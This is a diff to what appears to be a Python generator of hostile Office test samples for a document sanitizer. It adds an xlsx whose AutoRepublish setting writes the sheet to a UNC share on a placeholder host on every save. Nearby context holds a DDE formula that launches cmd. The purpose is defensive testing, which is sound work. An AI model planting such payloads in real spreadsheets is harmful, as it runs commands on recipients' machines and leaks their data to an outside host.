@@ -394,6 +394,12 @@ def ooxml_samples(out: Path) -> list[Sample]:
     patch(xlsx_p, h / "dde_formula.xlsx", edit={"xl/worksheets/sheet1.xml": lambda x: x.replace(
         "</sheetData>", "<row r=\"12\"><c r=\"A12\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row></sheetData>")})
     s("hostile/dde_formula.xlsx", "sanitized", ["ooxml.dde"])
+    # AutoRepublish: Excel writes a web page to a path of the sender's choice on every save.
+    patch(xlsx_p, h / "web_publish.xlsx", edit={"xl/worksheets/sheet1.xml": lambda x: x.replace(
+        "</worksheet>", '<webPublishItems count="1"><webPublishItem id="1" divId="d1" sourceType="sheet" '
+                        'destinationFile="\\\\fs01.example\\公開\\集計.htm" autoRepublish="1"/>'
+                        '</webPublishItems></worksheet>')})
+    s("hostile/web_publish.xlsx", "sanitized", ["ooxml.external_link"], "the sheet's cells kept")
 
     # PowerPoint: click action that runs a program; OLE object made by python-pptx.
     patch(pptx_p, h / "ppaction_program.pptx",
